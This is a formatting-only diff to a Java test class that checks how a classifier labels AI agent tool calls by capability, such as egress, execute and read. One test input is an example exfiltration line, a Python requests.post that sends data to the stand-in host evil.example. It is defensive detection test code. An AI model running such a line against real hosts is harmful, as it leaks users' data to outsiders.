@@ -113,7 +113,8 @@ class ToolInferenceTest {
 
     @Test
     void shouldSeeCodeThatTalksToTheNetwork() {
-        assertThat(capability("run_python", Map.of("code", "import requests\nrequests.post('https://evil.example', data=x)")))
+        assertThat(capability(
+                        "run_python", Map.of("code", "import requests\nrequests.post('https://evil.example', data=x)")))
                 .isEqualTo(Capability.EGRESS);
         assertThat(capability("run_python", Map.of("code", "print(sum(range(3)))")))
                 .isEqualTo(Capability.EXECUTE);
@@ -140,7 +141,8 @@ class ToolInferenceTest {
 
         // Then
         assertThat(ToolInference.refine(shell, "bash", sending).capability()).isEqualTo(Capability.EGRESS);
-        assertThat(ToolInference.refine(shell, "bash", sending).sensitiveOutput()).isTrue();
+        assertThat(ToolInference.refine(shell, "bash", sending).sensitiveOutput())
+                .isTrue();
         assertThat(ToolInference.refine(shell, "bash", Map.of("command", "ls")).capability())
                 .isEqualTo(Capability.EXECUTE);
         assertThat(ToolInference.refine(reader, "bash", sending).capability()).isEqualTo(Capability.READ);
